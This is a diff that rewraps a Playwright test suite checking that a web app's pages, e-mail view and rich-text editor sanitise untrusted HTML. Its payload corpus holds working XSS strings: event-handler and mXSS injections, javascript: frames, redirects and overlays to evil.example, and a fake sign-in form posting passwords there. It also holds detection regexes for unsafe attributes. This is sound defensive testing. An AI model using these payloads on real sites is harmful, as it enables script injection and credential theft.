@@ -41,17 +41,39 @@ const CORPUS: Array<[string, (code: string) => string]> = [
   ['SVG data image', (c) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${c}'/>">`],
   ['iframe javascript:', (c) => `<iframe src="javascript:${c}"></iframe>`],
   ['iframe srcdoc', (c) => `<iframe srcdoc="<script>${c}</script>"></iframe>`],
-  ['object and embed', (c) => `<object data="data:text/html,<script>${c}</script>"></object><embed src="data:text/html,<script>${c}</script>">`],
+  [
+    'object and embed',
+    (c) =>
+      `<object data="data:text/html,<script>${c}</script>"></object><embed src="data:text/html,<script>${c}</script>">`,
+  ],
   ['CSS overlay', () => '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session expired</div>'],
-  ['invisible link over the page', () => '<a href="https://evil.example/" style="position:fixed;top:0;left:0;width:100vw;height:100vh;display:block;z-index:99999"></a>'],
-  ['absolute overlay', () => '<p style="position:absolute;top:0;left:0;width:2000px;height:2000px;z-index:99999;background:red">cover</p>'],
-  ['fake sign-in form', () => '<form action="https://evil.example/c" method="post">Session expired <input name="email"><input type="password" name="pw"><button>Sign in</button></form>'],
-  ['autofocus onfocus', (c) => `<input autofocus onfocus="${c}"><textarea autofocus onfocus="${c}"></textarea><select autofocus onfocus="${c}"></select>`],
+  [
+    'invisible link over the page',
+    () =>
+      '<a href="https://evil.example/" style="position:fixed;top:0;left:0;width:100vw;height:100vh;display:block;z-index:99999"></a>',
+  ],
+  [
+    'absolute overlay',
+    () => '<p style="position:absolute;top:0;left:0;width:2000px;height:2000px;z-index:99999;background:red">cover</p>',
+  ],
+  [
+    'fake sign-in form',
+    () =>
+      '<form action="https://evil.example/c" method="post">Session expired <input name="email"><input type="password" name="pw"><button>Sign in</button></form>',
+  ],
+  [
+    'autofocus onfocus',
+    (c) =>
+      `<input autofocus onfocus="${c}"><textarea autofocus onfocus="${c}"></textarea><select autofocus onfocus="${c}"></select>`,
+  ],
   ['details ontoggle', () => '<details open ontoggle="alert(1)"><summary>s</summary></details>'],
   ['video source onerror', (c) => `<video><source onerror="${c}"></video><audio src="x" onerror="${c}"></audio>`],
   ['meta refresh', () => '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
   ['base href', () => '<base href="https://evil.example/"><a href="/relative">relative</a>'],
-  ['style and link tags', () => '<style>body{display:none}</style><link rel="stylesheet" href="data:text/css,body{display:none}">'],
+  [
+    'style and link tags',
+    () => '<style>body{display:none}</style><link rel="stylesheet" href="data:text/css,body{display:none}">',
+  ],
   ['noscript title breakout (mXSS)', (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>"></noscript>`],
   ['svg style img (mXSS)', (c) => `<svg><style><img src=x onerror="${c}"></style></svg>`],
   ['math mglyph style (mXSS)', (c) => `<math><mtext><table><mglyph><style><img src=x onerror="${c}">`],
@@ -69,7 +91,29 @@ const PAYLOADS = CORPUS.map(([name, make], index) => {
 type Payload = (typeof PAYLOADS)[number];
 
 /** Tags the HTML policy allows; a sink shows nothing else. */
-const ALLOWED = new Set(['p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'strong', 'em', 'u', 's', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'a', 'img']);
+const ALLOWED = new Set([
+  'p',
+  'br',
+  'hr',
+  'h1',
+  'h2',
+  'h3',
+  'h4',
+  'h5',
+  'h6',
+  'strong',
+  'em',
+  'u',
+  's',
+  'code',
+  'pre',
+  'blockquote',
+  'ul',
+  'ol',
+  'li',
+  'a',
+  'img',
+]);
 
 /** Dialogs and new pages the test saw; none is allowed. */
 function watch(page: Page) {
@@ -84,7 +128,11 @@ function watch(page: Page) {
 
 /** The harness sees a handler that runs (so a quiet page means the payloads were stopped, not unnoticed). */
 async function control(page: Page) {
-  await page.evaluate((code) => document.body.insertAdjacentHTML('beforeend', `<img id="xss-control" src="/nowhere.png" onerror="${code}">`), run('control'));
+  await page.evaluate(
+    (code) =>
+      document.body.insertAdjacentHTML('beforeend', `<img id="xss-control" src="/nowhere.png" onerror="${code}">`),
+    run('control'),
+  );
   await page.waitForFunction(() => window.__xss === 'control');
   await page.evaluate(() => {
     document.getElementById('xss-control')?.remove();
@@ -103,13 +151,24 @@ type Sink = { box: Locator; content?: Locator };
 async function inspect({ box, content }: Sink) {
   const contentHandle = content ? await content.elementHandle() : null;
   const report = await box.evaluate(async (boxElement, contentElement) => {
-    const root = contentElement ?? (boxElement instanceof HTMLIFrameElement ? boxElement.contentDocument!.body : boxElement);
+    const root =
+      contentElement ?? (boxElement instanceof HTMLIFrameElement ? boxElement.contentDocument!.body : boxElement);
     const framed = root.ownerDocument !== document;
-    if (framed) await new Promise<void>((done) => { const check = () => (root.ownerDocument.readyState === 'complete' ? done() : setTimeout(check, 20)); check(); });
-    await Promise.all([...root.querySelectorAll('img')].map((img) => (img.complete ? null : new Promise((done) => {
-      img.addEventListener('load', done, { once: true });
-      img.addEventListener('error', done, { once: true });
-    }))));
+    if (framed)
+      await new Promise<void>((done) => {
+        const check = () => (root.ownerDocument.readyState === 'complete' ? done() : setTimeout(check, 20));
+        check();
+      });
+    await Promise.all(
+      [...root.querySelectorAll('img')].map((img) =>
+        img.complete
+          ? null
+          : new Promise((done) => {
+              img.addEventListener('load', done, { once: true });
+              img.addEventListener('error', done, { once: true });
+            }),
+      ),
+    );
     await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done))));
 
     const header = document.querySelector('header')!;
@@ -118,29 +177,43 @@ async function inspect({ box, content }: Sink) {
     const atNavbar = document.elementFromPoint(navbar.left + navbar.width / 2, navbar.top + navbar.height / 2);
     boxElement.scrollIntoView({ block: 'center' });
     const frame = boxElement.getBoundingClientRect();
-    const inside = (r: DOMRect) => r.left >= frame.left - 1 && r.top >= frame.top - 1 && r.right <= frame.right + 1 && r.bottom <= frame.bottom + 1;
+    const inside = (r: DOMRect) =>
+      r.left >= frame.left - 1 && r.top >= frame.top - 1 && r.right <= frame.right + 1 && r.bottom <= frame.bottom + 1;
     const elements = [...root.querySelectorAll('*')];
-    const escaped = elements.filter((element) => {
-      const { position } = getComputedStyle(element);
-      if (position === 'fixed') return true;
-      // Inside a frame, coordinates are the frame's own and the frame clips.
-      return !framed && (position === 'absolute' || position === 'sticky') && !inside(element.getBoundingClientRect());
-    }).map((element) => element.outerHTML.slice(0, 80));
-    const atSink = document.elementFromPoint(frame.left + Math.min(frame.width / 2, 40), frame.top + Math.min(frame.height / 2, 10));
+    const escaped = elements
+      .filter((element) => {
+        const { position } = getComputedStyle(element);
+        if (position === 'fixed') return true;
+        // Inside a frame, coordinates are the frame's own and the frame clips.
+        return (
+          !framed && (position === 'absolute' || position === 'sticky') && !inside(element.getBoundingClientRect())
+        );
+      })
+      .map((element) => element.outerHTML.slice(0, 80));
+    const atSink = document.elementFromPoint(
+      frame.left + Math.min(frame.width / 2, 40),
+      frame.top + Math.min(frame.height / 2, 10),
+    );
     return {
       ran: window.__xss,
       url: location.href,
       baseURI: document.baseURI,
       // The e-mail frame's placeholder for a held-back image is the app's own markup.
-      tags: elements.filter((element) => !element.hasAttribute('data-blocked-image')).map((element) => element.localName),
-      attributes: elements.flatMap((element) => [...element.attributes].map((a) => `${element.localName} ${a.name}=${a.value}`)),
+      tags: elements
+        .filter((element) => !element.hasAttribute('data-blocked-image'))
+        .map((element) => element.localName),
+      attributes: elements.flatMap((element) =>
+        [...element.attributes].map((a) => `${element.localName} ${a.name}=${a.value}`),
+      ),
       // Every address as the browser reads it (it drops tabs and leading spaces, and ignores case).
       schemes: [...root.querySelectorAll('[href], [src]')].map((element) => {
         const value = element.getAttribute(element.hasAttribute('href') ? 'href' : 'src')!;
         const { protocol } = new URL(value, location.href);
         return protocol === 'data:' ? value.trim().slice(0, 20).toLowerCase() : protocol;
       }),
-      controls: root.querySelectorAll('form, input, button, textarea, select, iframe, frame, object, embed, svg, math, style, script, meta, base, link').length,
+      controls: root.querySelectorAll(
+        'form, input, button, textarea, select, iframe, frame, object, embed, svg, math, style, script, meta, base, link',
+      ).length,
       escaped,
       navbarOnTop: Boolean(atNavbar?.closest('header')),
       sinkOnTop: Boolean(atSink && (boxElement === atSink || boxElement.contains(atSink))),
@@ -161,28 +234,39 @@ async function expectContained(page: Page, payload: Payload, sink: Sink, seen: s
   expect(report.escaped, label).toEqual([]);
   expect(report.sinkOnTop, label).toBe(true);
   expect(report.controls, label).toBe(0);
-  expect(report.schemes.filter((scheme) => !/^(https?:|mailto:|tel:|data:image\/(png|jpeg|gif|webp))/.test(scheme)), label).toEqual([]);
+  expect(
+    report.schemes.filter((scheme) => !/^(https?:|mailto:|tel:|data:image\/(png|jpeg|gif|webp))/.test(scheme)),
+    label,
+  ).toEqual([]);
   // A modal editor covers the navbar by design; and its own markup (ProseMirror) carries classes and editing attributes.
   if (editor) return;
   expect(report.navbarOnTop, label).toBe(true);
   expect(report.foreign, label).toEqual([]);
-  const unsafe = report.attributes.filter((a) => /^\S+ (on\w+|style|id|name|srcdoc|formaction|action)=/i.test(a) || /=\s*(javascript|vbscript|data:text)/i.test(a));
+  const unsafe = report.attributes.filter(
+    (a) =>
+      /^\S+ (on\w+|style|id|name|srcdoc|formaction|action)=/i.test(a) || /=\s*(javascript|vbscript|data:text)/i.test(a),
+  );
   expect(unsafe, label).toEqual([]);
 }
 
-const bearer = async (page: Page) => ({ Authorization: `Bearer ${await page.evaluate(() => localStorage.getItem('accessToken'))}` });
+const bearer = async (page: Page) => ({
+  Authorization: `Bearer ${await page.evaluate(() => localStorage.getItem('accessToken'))}`,
+});
 
 /** A request the page makes itself, so the demo API (a service worker in the page) answers it. */
 async function inPage<T>(page: Page, method: string, path: string, body?: unknown): Promise<T> {
-  return page.evaluate(async ({ method, path, body }) => {
-    const response = await fetch(path, {
-      method,
-      headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${localStorage.getItem('accessToken')}` },
-      body: body === undefined ? undefined : JSON.stringify(body),
-    });
-    if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${await response.text()}`);
-    return response.json();
-  }, { method, path, body });
+  return page.evaluate(
+    async ({ method, path, body }) => {
+      const response = await fetch(path, {
+        method,
+        headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${localStorage.getItem('accessToken')}` },
+        body: body === undefined ? undefined : JSON.stringify(body),
+      });
+      if (!response.ok) throw new Error(`${method} ${path}: ${response.status} ${await response.text()}`);
+      return response.json();
+    },
+    { method, path, body },
+  );
 }
 
 /**
@@ -190,22 +274,28 @@ async function inPage<T>(page: Page, method: string, path: string, body?: unknow
  * raw HTML (or mail arriving from outside) would send it: the screen's own sanitising is then all that stands.
  */
 async function answerRaw(page: Page, path: string, patch: Record<string, unknown>) {
-  await page.evaluate(({ path, patch }) => {
-    const own = window as unknown as { __rawAnswers?: Array<{ path: string; patch: Record<string, unknown> }> };
-    if (!own.__rawAnswers) {
-      own.__rawAnswers = [];
-      const original = window.fetch.bind(window);
-      window.fetch = async (input, init) => {
-        const response = await original(input, init);
-        const url = new URL(typeof input === 'string' ? input : input instanceof URL ? input.href : input.url, location.href);
-        const rule = own.__rawAnswers!.find((r) => `${url.pathname}${url.search}` === r.path);
-        if (!rule || !response.ok) return response;
-        const body = { ...(await response.json()), ...rule.patch };
-        return new Response(JSON.stringify(body), { status: response.status, headers: response.headers });
-      };
-    }
-    own.__rawAnswers = [...own.__rawAnswers.filter((rule) => rule.path !== path), { path, patch }];
-  }, { path, patch });
+  await page.evaluate(
+    ({ path, patch }) => {
+      const own = window as unknown as { __rawAnswers?: Array<{ path: string; patch: Record<string, unknown> }> };
+      if (!own.__rawAnswers) {
+        own.__rawAnswers = [];
+        const original = window.fetch.bind(window);
+        window.fetch = async (input, init) => {
+          const response = await original(input, init);
+          const url = new URL(
+            typeof input === 'string' ? input : input instanceof URL ? input.href : input.url,
+            location.href,
+          );
+          const rule = own.__rawAnswers!.find((r) => `${url.pathname}${url.search}` === r.path);
+          if (!rule || !response.ok) return response;
+          const body = { ...(await response.json()), ...rule.patch };
+          return new Response(JSON.stringify(body), { status: response.status, headers: response.headers });
+        };
+      }
+      own.__rawAnswers = [...own.__rawAnswers.filter((rule) => rule.path !== path), { path, patch }];
+    },
+    { path, patch },
+  );
 }
 
 async function open(page: Page, path: string) {
@@ -234,18 +324,26 @@ test('content pages: a body saved through /v1 shows nothing that runs or escapes
   const seen = watch(page);
   const headers = await bearer(page);
   // Pages of its own, so no other test (the route walk opens /how-we/1) meets a payload.
-  const [template] = (await (await page.request.get('/v1/how-we?range=[0,0]', { headers })).json()) as Array<Record<string, unknown>>;
+  const [template] = (await (await page.request.get('/v1/how-we?range=[0,0]', { headers })).json()) as Array<
+    Record<string, unknown>
+  >;
   const { id: _id, createdAt: _c, updatedAt: _u, version: _v, deletedAt: _d, ...fields } = template;
   const records: Array<Record<string, unknown>> = [];
   for (const n of [1, 2, 3]) {
-    const created = await page.request.post('/v1/how-we', { headers, data: { ...fields, title: `XSS corpus ${n} ${Date.now()}`, slug: null } });
+    const created = await page.request.post('/v1/how-we', {
+      headers,
+      data: { ...fields, title: `XSS corpus ${n} ${Date.now()}`, slug: null },
+    });
     expect(created.status()).toBe(201);
     records.push(await created.json());
   }
   for (const [index, payload] of PAYLOADS.entries()) {
     // Round the records, so that each visit opens another one than the last.
     const slot = index % records.length;
-    const saved = await page.request.put(`/v1/how-we/${records[slot].id}`, { headers, data: { ...records[slot], body: payload.html } });
+    const saved = await page.request.put(`/v1/how-we/${records[slot].id}`, {
+      headers,
+      data: { ...records[slot], body: payload.html },
+    });
     expect(saved.status(), payload.id).toBe(200);
     records[slot] = await saved.json();
     await go(page, `/how-we/${records[slot].id}/show`);
@@ -261,7 +359,10 @@ test('contributors: a biography saved through /v1 shows nothing that runs or esc
   const seen = watch(page);
   const headers = await bearer(page);
   for (const payload of PAYLOADS) {
-    const created = await page.request.post('/v1/contributor', { headers, data: { name: `Payload ${payload.id}`, email: `${payload.id}@xss.example`, biography: payload.html } });
+    const created = await page.request.post('/v1/contributor', {
+      headers,
+      data: { name: `Payload ${payload.id}`, email: `${payload.id}@xss.example`, biography: payload.html },
+    });
     expect(created.status(), payload.id).toBe(201);
     const { id } = await created.json();
     await go(page, `/contributor/${id}/show`);
@@ -287,13 +388,23 @@ test('blog: a post saved through the demo API shows nothing that runs or escapes
   }
 });
 
-test('knowledge base: an article answered raw (its demo API has no write path) shows nothing that runs or escapes', async ({ page }) => {
+test('knowledge base: an article answered raw (its demo API has no write path) shows nothing that runs or escapes', async ({
+  page,
+}) => {
   const seen = watch(page);
   const categories = await inPage<Array<{ category: string }>>(page, 'GET', '/kb/data/knowledge_base');
   const articles: string[] = [];
   for (const { category } of categories) {
-    const { sections } = await inPage<{ sections: Array<{ questions: Array<{ slug: string }> }> }>(page, 'GET', `/kb/data/category?category=${category}`);
-    articles.push(...sections.flatMap((section) => section.questions.map((question) => `/pages/knowledge-base/${category}/${question.slug}`)));
+    const { sections } = await inPage<{ sections: Array<{ questions: Array<{ slug: string }> }> }>(
+      page,
+      'GET',
+      `/kb/data/category?category=${category}`,
+    );
+    articles.push(
+      ...sections.flatMap((section) =>
+        section.questions.map((question) => `/pages/knowledge-base/${category}/${question.slug}`),
+      ),
+    );
   }
   expect(articles.length).toBeGreaterThan(2);
   for (const [index, payload] of PAYLOADS.entries()) {
@@ -307,7 +418,9 @@ test('knowledge base: an article answered raw (its demo API has no write path) s
   }
 });
 
-test('e-mail: a message sent through the demo API, one answered raw (mail from outside) and a reply quoting it show nothing that runs or escapes', async ({ page }) => {
+test('e-mail: a message sent through the demo API, one answered raw (mail from outside) and a reply quoting it show nothing that runs or escapes', async ({
+  page,
+}) => {
   const seen = watch(page);
   const checkMessage = async (payload: Payload) => {
     const frame = page.getByRole('article', { name: /Message from/ }).locator('iframe');
@@ -317,12 +430,28 @@ test('e-mail: a message sent through the demo API, one answered raw (mail from o
     await expect(frame.contentFrame().locator('body')).toContainText(`marker ${payload.id}`);
     await expectContained(page, payload, { box: frame }, seen);
     // The frame is as tall as its content, and the message's card as tall as the frame: nothing is cut off.
-    await expect.poll(() => frame.evaluate((element: HTMLIFrameElement) =>
-      Math.abs(element.getBoundingClientRect().height - element.contentDocument!.documentElement.getBoundingClientRect().height))).toBeLessThanOrEqual(1);
-    expect(await frame.evaluate((element) => element.closest('article')!.scrollHeight - element.closest('article')!.clientHeight)).toBeLessThanOrEqual(1);
+    await expect
+      .poll(() =>
+        frame.evaluate((element: HTMLIFrameElement) =>
+          Math.abs(
+            element.getBoundingClientRect().height -
+              element.contentDocument!.documentElement.getBoundingClientRect().height,
+          ),
+        ),
+      )
+      .toBeLessThanOrEqual(1);
+    expect(
+      await frame.evaluate(
+        (element) => element.closest('article')!.scrollHeight - element.closest('article')!.clientHeight,
+      ),
+    ).toBeLessThanOrEqual(1);
   };
   const send = async (subject: string, payload: Payload) =>
-    (await inPage<{ email: { id: number } }>(page, 'POST', '/apps/email/emails', { email: { to: [{ name: 'Ada', email: 'ada@example.com' }], subject, message: payload.html } })).email.id;
+    (
+      await inPage<{ email: { id: number } }>(page, 'POST', '/apps/email/emails', {
+        email: { to: [{ name: 'Ada', email: 'ada@example.com' }], subject, message: payload.html },
+      })
+    ).email.id;
   /** Opens an e-mail and waits for it, not the one before it (which carries the same payload). */
   const openEmail = async (id: number, subject: string) => {
     await go(page, `/apps/email/sent?open=${id}`);
@@ -341,7 +470,10 @@ test('e-mail: a message sent through the demo API, one answered raw (mail from o
     await checkMessage(payload);
     if (payload.name === 'tracking image') {
       // Held back until the reader asks.
-      const frame = page.getByRole('article', { name: /Message from/ }).locator('iframe').contentFrame();
+      const frame = page
+        .getByRole('article', { name: /Message from/ })
+        .locator('iframe')
+        .contentFrame();
       await expect(frame.locator('img')).toHaveCount(0);
       await page.screenshot({ path: test.info().outputPath('email-with-payload.png') });
       await page.getByRole('button', { name: 'Show images' }).click();
@@ -364,7 +496,9 @@ test('e-mail: a message sent through the demo API, one answered raw (mail from o
   }
 });
 
-test('rich-text showcase: pasted untrusted HTML, its preview and the editor it loads into show nothing that runs or escapes', async ({ page }) => {
+test('rich-text showcase: pasted untrusted HTML, its preview and the editor it loads into show nothing that runs or escapes', async ({
+  page,
+}) => {
   const seen = watch(page);
   await go(page, '/forms/form-element/quill-editor');
   const source = page.getByRole('textbox', { name: 'Untrusted HTML' });
@@ -382,22 +516,46 @@ test('rich-text showcase: pasted untrusted HTML, its preview and the editor it l
 });
 
 test('e-mail frame: a long message is shown whole, in the app’s font and the dark skin’s colours', async ({ page }) => {
-  const paragraphs = Array.from({ length: 40 }, (_, index) => `<p>Paragraph ${index + 1} of a long message.</p>`).join('');
-  const { email } = await inPage<{ email: { id: number } }>(page, 'POST', '/apps/email/emails', { email: { to: [{ name: 'Ada', email: 'ada@example.com' }], subject: 'Long', message: paragraphs } });
+  const paragraphs = Array.from({ length: 40 }, (_, index) => `<p>Paragraph ${index + 1} of a long message.</p>`).join(
+    '',
+  );
+  const { email } = await inPage<{ email: { id: number } }>(page, 'POST', '/apps/email/emails', {
+    email: { to: [{ name: 'Ada', email: 'ada@example.com' }], subject: 'Long', message: paragraphs },
+  });
   await page.evaluate(() => localStorage.setItem('skin', 'dark'));
   await open(page, `/apps/email/sent?open=${email.id}`);
   const frame = page.getByRole('article', { name: /Message from/ }).locator('iframe');
   const last = frame.contentFrame().getByText('Paragraph 40 of a long message.');
   await expect(last).toBeVisible();
-  await expect.poll(() => frame.evaluate((element: HTMLIFrameElement) =>
-    Math.abs(element.getBoundingClientRect().height - element.contentDocument!.documentElement.getBoundingClientRect().height))).toBeLessThanOrEqual(1);
-  expect(await frame.evaluate((element) => element.closest('article')!.scrollHeight - element.closest('article')!.clientHeight)).toBeLessThanOrEqual(1);
+  await expect
+    .poll(() =>
+      frame.evaluate((element: HTMLIFrameElement) =>
+        Math.abs(
+          element.getBoundingClientRect().height -
+            element.contentDocument!.documentElement.getBoundingClientRect().height,
+        ),
+      ),
+    )
+    .toBeLessThanOrEqual(1);
+  expect(
+    await frame.evaluate(
+      (element) => element.closest('article')!.scrollHeight - element.closest('article')!.clientHeight,
+    ),
+  ).toBeLessThanOrEqual(1);
   // The thread scrolls to the message's end, which is then on screen.
   await last.scrollIntoViewIfNeeded();
   await expect(last).toBeInViewport();
   const look = await frame.evaluate((element: HTMLIFrameElement) => {
     const body = getComputedStyle(element.contentDocument!.body);
-    return { color: body.color, font: body.fontFamily, background: getComputedStyle(element.contentDocument!.documentElement).backgroundColor };
+    return {
+      color: body.color,
+      font: body.fontFamily,
+      background: getComputedStyle(element.contentDocument!.documentElement).backgroundColor,
+    };
   });
-  expect(look).toEqual({ color: 'rgb(208, 210, 214)', font: expect.stringContaining('Montserrat'), background: 'rgba(0, 0, 0, 0)' });
+  expect(look).toEqual({
+    color: 'rgb(208, 210, 214)',
+    font: expect.stringContaining('Montserrat'),
+    background: 'rgba(0, 0, 0, 0)',
+  });
 });
